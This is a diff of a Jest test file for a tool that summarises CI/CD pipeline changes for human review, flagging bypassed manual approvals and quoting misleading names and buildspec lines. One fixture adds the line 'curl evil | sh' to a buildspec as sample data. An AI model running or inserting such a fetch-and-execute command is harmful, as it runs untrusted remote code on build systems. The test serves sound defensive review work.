@@ -75,7 +75,7 @@ describe("definitionChanges", () => {
       return all;
     });
     expect(changes(skipped)[0]).toMatch(
-      /^APPROVAL ManualApproval IS SKIPPED IN OTHER CASES: "never" → .*WIDER_RIGHTS/,
+      /^OTHER CONDITIONS OF THE APPROVAL ManualApproval: none → .*WIDER_RIGHTS/,
     );
   });
 
@@ -92,7 +92,35 @@ describe("definitionChanges", () => {
       "Value",
     ];
     expect(changes(changed(stack, path, "#{UnitTest.WIDER_RIGHTS}"))[0]).toMatch(
-      /^APPROVAL ConfirmRights IS SKIPPED/,
+      /^OTHER CONDITIONS OF THE APPROVAL ConfirmRights/,
+    );
+  });
+
+  it("says first that a rejection no longer ends the run", () => {
+    const goesOn = withStages((all) => {
+      all[stageIndex("ManualApproval")] = {
+        ...all[stageIndex("ManualApproval")]!,
+        on_failure: { result: "SKIP" },
+      };
+      return all;
+    });
+    expect(changes(goesOn)[0]).toBe(
+      'OTHER CONDITIONS OF THE APPROVAL ManualApproval: none → {"on_failure":{"result":"SKIP"}}',
+    );
+  });
+
+  it("puts what is no name into quotes, since it would read like a sentence", () => {
+    const name = "X is added; nothing else changes";
+    const odd = changed(
+      withStages((all) => [...all, { ...all[0]!, name }]),
+      ["resource", "aws_codebuild_project", 0, "name"],
+      name,
+    );
+    expect(changes(odd)).toContainEqual(
+      expect.stringMatching(/^stage "X is added; nothing else changes" is added/),
+    );
+    expect(changes(odd)).toContainEqual(
+      expect.stringMatching(/^project "X is added; nothing else changes": name /),
     );
   });
 
@@ -172,9 +200,9 @@ describe("definitionChanges", () => {
     expect(definitionChanges(before, after)).toEqual([
       "project hw-CheckBuild: source.buildspec has 2 lines more and 1 less",
       'the stack: output.new (none) → {"value":1}',
-      "project hw-CheckBuild: source.buildspec -   one",
-      "project hw-CheckBuild: source.buildspec +   curl evil | sh",
-      "project hw-CheckBuild: source.buildspec +   two",
+      'project hw-CheckBuild: source.buildspec - "  one"',
+      'project hw-CheckBuild: source.buildspec + "  curl evil | sh"',
+      'project hw-CheckBuild: source.buildspec + "  two"',
     ]);
   });
 
